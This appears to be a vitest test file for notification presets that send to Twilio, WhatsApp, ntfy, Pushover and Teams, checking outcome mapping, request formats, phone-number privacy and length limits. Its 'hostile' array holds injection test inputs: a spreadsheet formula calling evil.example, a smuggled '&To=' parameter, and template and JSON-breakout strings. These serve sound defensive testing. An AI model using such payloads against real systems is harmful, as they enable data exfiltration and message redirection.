import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../../src/core/json.ts";
import { hour, minute, second } from "../../../src/core/time.ts";
import { answer, json, type SinkStep } from "../../support/http-sink.ts";
import { monday } from "../../support/make.ts";
import { vendorOnLoopback, viewOf } from "../../support/preset-case.ts";

/** Presets that reach a person's phone. Answers are written from the vendors' pages, which stand beside them. */

const { sink, open } = vendorOnLoopback();

const [form, sent] = [
  () => Object.fromEntries(new URLSearchParams(sink.requests[0]?.body ?? "")),
  () => JSON.parse(sink.requests[0]?.body ?? "null") as JsonObject, // what a preset sends is a JSON object
];

/** https://www.twilio.com/docs/messaging/api/message-resource#create-a-message */
const queued = { sid: "SM1", status: "queued", error_code: null, error_message: null };
/** https://www.twilio.com/docs/api/errors; the status of most is 400. */
const twilio = (code: number, status = 400) =>
  json(status, { code, message: "…", more_info: `https://www.twilio.com/docs/errors/${code}`, status });
/** …/whatsapp/cloud-api/messages */
const taken = { messaging_product: "whatsapp", contacts: [{ input: "1", wa_id: "1" }], messages: [{ id: "wamid.1" }] };
/** https://developers.facebook.com/documentation/business-messaging/whatsapp/support/error-codes */
const meta = (code: number, status = 400) => json(status, { error: { message: "…", type: "OAuthException", code, fbtrace_id: "A" } });
/** binwiederhier/ntfy server/errors.go */
const ntfy = (code: number, http: number) => json(http, { code, http, error: "…" });

const delivered = { kind: "delivered" };
const refused = { kind: "refused", reason: "permanent" };
const paused = { kind: "pause" };
const waits = (after: number) => ({ kind: "later", reason: "throttled", after, countsAsAttempt: false });

const rows: readonly (readonly [preset: string, what: string, step: SinkStep, outcome: object])[] = [
  ["twilio.sms", "a message that is taken", json(201, queued), { kind: "delivered", reference: "SM1" }],
  ["twilio.sms", "a failure inside an answer of 201", json(201, { ...queued, error_code: 30_007 }), refused],
  ["twilio.sms", "a state of failure inside an answer of 201", json(201, { ...queued, status: "failed" }), refused],
  ["twilio.sms", "a page of a proxy that says 200", answer(200, {}, "<html>sign in</html>"), { kind: "later" }],
  ["twilio.sms", "too many requests", twilio(20_429, 429), waits(10 * second)],
  ["twilio.sms", "the day's limit of messages", twilio(63_038, 429), waits(24 * hour)],
  ["twilio.sms", "a number that is none", twilio(21_211), refused],
  ["twilio.sms", "a number that wants no more", twilio(21_610), refused],
  ["twilio.sms", "a region that is switched off", twilio(21_408), paused],
  ["twilio.sms", "a trial account", twilio(21_608), paused],
  ["twilio.sms", "a full queue", twilio(21_611, 429), { kind: "later" }],
  ["twilio.sms", "a wrong token", twilio(20_003, 401), paused],
  ["twilio.sms", "an account that is not there", twilio(20_404, 404), paused],
  ["twilio.whatsapp", "a message that is taken", json(201, queued), delivered],
  ["twilio.whatsapp", "too fast for one number", twilio(63_018), waits(minute)],
  ["twilio.whatsapp", "a sender that WhatsApp does not know", twilio(63_007), paused],
  ["twilio.whatsapp", "a failure inside an answer of 201", json(201, { ...queued, status: "undelivered" }), refused],
  ["whatsapp.message", "a message that is taken", json(200, taken), { kind: "delivered", reference: "wamid.1" }],
  ["whatsapp.message", "an error inside an answer of 200", meta(131_026, 200), refused],
  ["whatsapp.message", "an answer of 200 that says nothing", json(200, {}), { kind: "later" }],
  ["whatsapp.message", "too fast", meta(130_429), waits(5 * second)],
  ["whatsapp.message", "too fast for this number", meta(131_056), { kind: "later", after: 6 * second }],
  ["whatsapp.message", "too much that people did not want", meta(131_048), waits(hour)],
  ["whatsapp.message", "the window of 24 hours", meta(131_047), refused],
  ["whatsapp.message", "a token that has ended", meta(190, 401), paused],
  ["whatsapp.message", "a permission", meta(200, 403), paused],
  ["whatsapp.message", "another permission", meta(299, 403), paused],
  ["whatsapp.message", "an unpaid bill", meta(131_042), paused],
  ["whatsapp.message", "a passing failure with a status of refusal", meta(131_000), { kind: "later" }],
  ["ntfy", "a message that is taken", json(200, { id: "n1", event: "message", topic: "t" }), { kind: "delivered", reference: "n1" }],
  ["ntfy", "too fast", ntfy(42_901, 429), waits(5 * second)],
  ["ntfy", "the day's messages", ntfy(42_908, 429), waits(hour)],
  ["ntfy", "a topic that is not ours", ntfy(40_301, 403), paused],
  ["ntfy", "a token that is none", ntfy(40_101, 401), paused],
  ["ntfy", "a request that is not valid", ntfy(40_024, 400), refused],
  ["ntfy", "a message that is too long for its server", ntfy(50_701, 507), refused],
  ["ntfy", "an error inside an answer of 200", ntfy(40_024, 200), refused],
  // https://pushover.net/api#response
  ["pushover", "a message that is taken", json(200, { status: 1, request: "r1" }), { kind: "delivered", reference: "r1" }],
  ["pushover", "a status of 0 inside an answer of 200", json(200, { status: 0, errors: ["message cannot be blank"] }), refused],
  ["pushover", "a user who is not there", json(400, { user: "invalid", errors: ["user identifier is invalid"], status: 0 }), paused],
  ["pushover", "a token that is none", json(400, { token: "invalid", errors: ["application token is invalid"], status: 0 }), paused],
  ["pushover", "a message that is not valid", json(400, { message: "cannot be blank", status: 0 }), refused],
  ["pushover", "the month's messages", json(429, { status: 0 }, { "x-limit-app-reset": String(monday / 1_000 + 600) }), waits(10 * minute)],
  ["pushover", "a failure of theirs", answer(500), { kind: "later", after: 10 * second }],
];

describe("an answer", () => {
  it.each(rows)("of %s for %s", async (preset, _what, step, outcome) => {
    const { deliver, message } = open(preset);
    sink.script(step);
    expect(await deliver(message())).toMatchObject(outcome);
  });
});

describe("Twilio", () => {
  it("is sent a form, as its own client sends it", async () => {
    const { deliver, message } = open("twilio.sms", { account: "AC1", from: "+15557122661", to: "+15558675310" });
    await deliver(message(viewOf(), { title: "Help", text: "A & B = ü + 😀" }));
    const authorization = `Basic ${Buffer.from("AC1:canary-token").toString("base64")}`;
    expect(sink.requests[0]).toMatchObject({
      method: "POST",
      path: "/2010-04-01/Accounts/AC1/Messages.json",
      headers: { "content-type": "application/x-www-form-urlencoded", authorization },
    });
    expect(form()).toEqual({ To: "+15558675310", From: "+15557122661", Body: "Help\nA & B = ü + 😀" });
  });

  it("is sent by a messaging service, with an API key", async () => {
    const { deliver, message } = open("twilio.sms", { account: "AC1", key: "SK1", from: "MG1", to: "+15558675310" });
    await deliver(message());
    expect(form()).toMatchObject({ MessagingServiceSid: "MG1", To: "+15558675310" });
    expect(form()).not.toHaveProperty("From");
    expect(sink.requests[0]?.headers.authorization).toBe(`Basic ${Buffer.from("SK1:canary-token").toString("base64")}`);
  });

  it("is given a template's variables as a text of JSON, each of one line", async () => {
    const { deliver, message } = open("twilio.whatsapp", { from: "+14155238886", to: "+15558675310", template: "HX1" });
    await deliver(message(viewOf(), { title: "Help", text: 'one\n"two"\t     three' }));
    const { ContentVariables, ...others } = form();
    expect(others).toEqual({ To: "whatsapp:+15558675310", From: "whatsapp:+14155238886", ContentSid: "HX1" });
    expect(JSON.parse(ContentVariables ?? "")).toEqual({ "1": "Help", "2": 'one "two" three' });
  });

  it("is given a plain text where there is no template", async () => {
    const { deliver, message } = open("twilio.whatsapp", { from: "+14155238886", to: "+15558675310" });
    await deliver(message(viewOf(), { title: "Help", text: "now" }));
    expect(form()).toEqual({ To: "whatsapp:+15558675310", From: "whatsapp:+14155238886", Body: "Help\nnow" });
  });
});

describe("WhatsApp", () => {
  it("is sent a text, or the parameters of a template", async () => {
    const settings = { from: "106540352242922", to: "+15558675310" };
    const plain = open("whatsapp.message", settings);
    await plain.deliver(plain.message(viewOf(), { title: "Help", text: "now" }));
    expect(sink.requests[0]?.path).toBe("/v23.0/106540352242922/messages");
    expect(sent()).toEqual({
      messaging_product: "whatsapp",
      recipient_type: "individual",
      to: "+15558675310",
      type: "text",
      text: { preview_url: false, body: "Help\nnow" },
    });
    const templated = open("whatsapp.message", { ...settings, template: "escalation", language: "de" });
    await templated.deliver(templated.message(viewOf(), { title: "Help", text: "one\ntwo" }));
    expect(JSON.parse(sink.requests[1]?.body ?? "").template).toEqual({
      name: "escalation",
      language: { code: "de" },
      components: [
        {
          type: "body",
          parameters: [
            { type: "text", text: "Help" },
            { type: "text", text: "one two" },
          ],
        },
      ],
    });
  });
});

describe("a push message", () => {
  it("of ntfy has its title in the body, where every script fits, and needs no token", async () => {
    const { deliver, message } = open("ntfy", { topic: "acme" });
    await deliver(message(viewOf(), { title: "Ünï ☎\r\nX-Priority: 5", text: "こんにちは" }));
    expect(sent()).toMatchObject({ topic: "acme", title: "Ünï ☎ X-Priority: 5", message: "こんにちは", priority: 4 });
    expect(sink.requests[0]?.headers).not.toHaveProperty("authorization");
  });

  it("of Pushover rings until it is seen where it is critical", async () => {
    const { deliver, message } = open("pushover");
    await deliver(message(viewOf(undefined, { rule: { name: "r", severity: "critical" } })));
    expect(form()).toMatchObject({ token: "canary-token", user: "canary-user", priority: "2", retry: "60", expire: "3600" });
  });
});

describe("a number", () => {
  const identity = { phone: "+15558675310", found: ["phone"] };

  it.each(["twilio.sms", "twilio.whatsapp", "whatsapp.message"])(
    "that only the visitor has typed is not written to by %s",
    async (preset) => {
      const { deliver, message } = open(preset, { to: "{{ identity.phone }}" });
      await deliver(message(viewOf(identity)));
      await deliver(message(viewOf({ ...identity, found: [] })));
      const [typed, stated] = sink.requests.map(({ body }) => decodeURIComponent(body));
      expect(typed).not.toContain("15558675310");
      expect(stated).toContain("15558675310");
    },
  );

  it("that only the visitor has typed is written to where rules.yaml says so", async () => {
    const { deliver, message } = open("twilio.sms", { to: "{{ identity.phone }}", on_found_identity: "write" });
    await deliver(message(viewOf(identity)));
    expect(form()).toMatchObject({ To: "+15558675310" });
  });
});

describe("what waits in the queue", () => {
  it.each(["pushover", "ntfy", "pagerduty.event"])("of %s holds no secret, though its body does when it is sent", async (preset) => {
    const { deliver, message } = open(preset);
    const one = message();
    expect(JSON.stringify(one.body)).not.toContain("canary");
    await deliver(one);
    expect(sink.requests[0]?.body).toMatch(/canary-(token|topic|routing_key)/);
  });
});

describe("a link to the conversation", () => {
  const link = "https://relay.example.com/sessions/session_xyz789";

  it.each(["teams", "ntfy", "pushover", "zendesk.ticket", "intercom.event", "freshdesk.ticket", "notion.page", "monday.item"])(
    "stands in what %s is sent where people can reach the page, and nowhere else",
    async (preset) => {
      const { deliver, message } = open(preset);
      sink.script(json(200, { data: { create_item: { id: "7" } }, id: "1", status: 1, request: "r", ticket: { id: 1 } }));
      const view = viewOf();
      await deliver(message({ ...view, session: { ...view.session, link } }));
      const linked = sink.requests.map(({ body }) => decodeURIComponent(body.replaceAll("+", " "))).join();
      expect(linked).toContain(link);
      const before = sink.requests.length;
      await deliver(message(view, { text: "another" }));
      expect(
        sink.requests
          .slice(before)
          .map(({ body }) => body)
          .join(),
      ).not.toMatch(/sessions|conversation"|OpenUrl|url_title|click/);
    },
  );
});

/** What a visitor may write to make trouble, and what the vendors measure. */
const hostile = [
  ["words", `=IMPORTXML("http://evil.example","//a") &To=+1900 {{ event.agent }} \${token} "},{"a":"`],
  ["emoji of many parts", "👨‍👩‍👧‍👦".repeat(3_000)],
  ["letters of three bytes", "字".repeat(9_000)],
  ["lines and control characters", "a\r\n\u0000\u2028b\t".repeat(2_000)],
  ["one letter with a thousand accents", `e${"\u0301".repeat(9_000)}`],
] as const;

const bytes = (text: string) => Buffer.byteLength(text);

describe("what a visitor writes stays a text, of a length that the vendor takes:", () => {
  it.each(hostile)("%s", async (_what, said) => {
    const to = { from: "+14155238886", to: "+15558675310" };
    const settings: readonly (readonly [string, JsonObject])[] = [
      ["twilio.sms", to],
      ["twilio.whatsapp", to],
      ["twilio.whatsapp", { ...to, template: "HX1" }],
      ["whatsapp.message", to],
      ["whatsapp.message", { ...to, template: "escalation" }],
      ["ntfy", { topic: "acme" }],
      ["pushover", {}],
      ["teams", {}],
    ];
    for (const [preset, more] of settings) {
      const { deliver, message } = open(preset, more);
      const view = viewOf();
      await deliver(message({ ...view, event: { ...view.event, message: said, agent: "A1" } }));
    }
    const forms = sink.requests.filter(({ body }) => !body.startsWith("{")).map(({ body }) => new URLSearchParams(body));
    for (const each of forms) expect(each.getAll("To").length).toBeLessThanOrEqual(1);
    const [sms, text, template, push] = forms;
    expect(sms?.get("Body")?.length).toBeLessThanOrEqual(1_600);
    expect(sms?.get("To")).toBe("+15558675310");
    expect(text?.get("Body")?.length).toBeLessThanOrEqual(1_600);
    const variables = Object.values(JSON.parse(template?.get("ContentVariables") ?? "") as Readonly<Record<string, string>>);
    expect(variables).toHaveLength(2);
    expect(variables.join("").length).toBeLessThanOrEqual(1_024);
    expect(variables.join("")).not.toMatch(/[\n\t\r]| {4}/);
    expect(push?.get("message")?.length).toBeLessThanOrEqual(1_024);
    expect(push?.get("title")?.length).toBeLessThanOrEqual(250);
    const [plain, parameters, pushed, card] = sink.requests.filter(({ body }) => body.startsWith("{")).map(({ body }) => JSON.parse(body));
    expect(plain.text.body.length).toBeLessThanOrEqual(4_096);
    const texts = parameters.template.components[0].parameters.map((each: { text: string }) => each.text) as readonly string[];
    expect(texts.join("").length).toBeLessThanOrEqual(1_024);
    expect(texts.join("")).not.toMatch(/[\n\t\r]| {4}/);
    expect(bytes(JSON.stringify(card))).toBeLessThanOrEqual(22_000);
    expect(card.attachments[0].contentType).toBe("application/vnd.microsoft.card.adaptive");
    expect(bytes(pushed.message)).toBeLessThanOrEqual(4_096);
    expect(Object.keys(pushed).sort()).toEqual(["message", "priority", "tags", "title", "topic"]);
    expect(JSON.stringify(sink.requests.map(({ body }) => body))).not.toContain("\\ud83d�");
  });
});
